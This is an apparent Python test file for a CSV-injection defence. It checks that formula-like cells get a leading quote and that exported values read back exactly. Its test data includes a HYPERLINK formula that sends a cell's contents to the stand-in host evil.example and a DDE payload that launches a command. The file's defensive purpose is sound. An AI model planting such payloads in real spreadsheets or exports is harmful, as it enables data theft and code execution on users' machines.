"""Cells a spreadsheet would run as formulas are written with a ``'`` in front (OWASP's
CSV-injection rule), and read back exactly (issue 12, defect 2; ADR 0027)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from identity_graph import csvsafe

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+447700900123", "-3.5", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "\n=1+2", "\uff1d1+2",
     "-2+3+cmd|' /C calc'!A0"],
)
def test_a_cell_starting_like_a_formula_gets_a_quote_in_front(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Lee", "ann@example.org", "07700 900123", "a=b", " =1", "", "SW1A 1AA"])
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert csvsafe.cell(value) == value


def test_numbers_written_as_numbers_are_left_alone() -> None:
    assert csvsafe.row([3, -3, -3.5, None, "x"]) == [3, -3, -3.5, None, "x"]


@given(st.text())
def test_every_text_reads_back_exactly_and_never_starts_like_a_formula(value: str) -> None:
    written = csvsafe.cell(value)
    assert csvsafe.restore(written) == value
    assert written[:1] not in csvsafe.FORMULA_PREFIXES


def test_a_frame_has_every_text_cell_and_header_neutralised() -> None:
    df = pd.DataFrame({"source": ["hr", "hr"], "source_record_id": [FORMULA, "R2"], "n": [-1, 2]})
    buf = io.StringIO()
    csvsafe.frame(df).to_csv(buf, index=False)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["source", "source_record_id", "n"], ["hr", "'" + FORMULA, "-1"], ["hr", "R2", "2"]]
    assert df.loc[0, "source_record_id"] == FORMULA  # the caller's frame is not changed
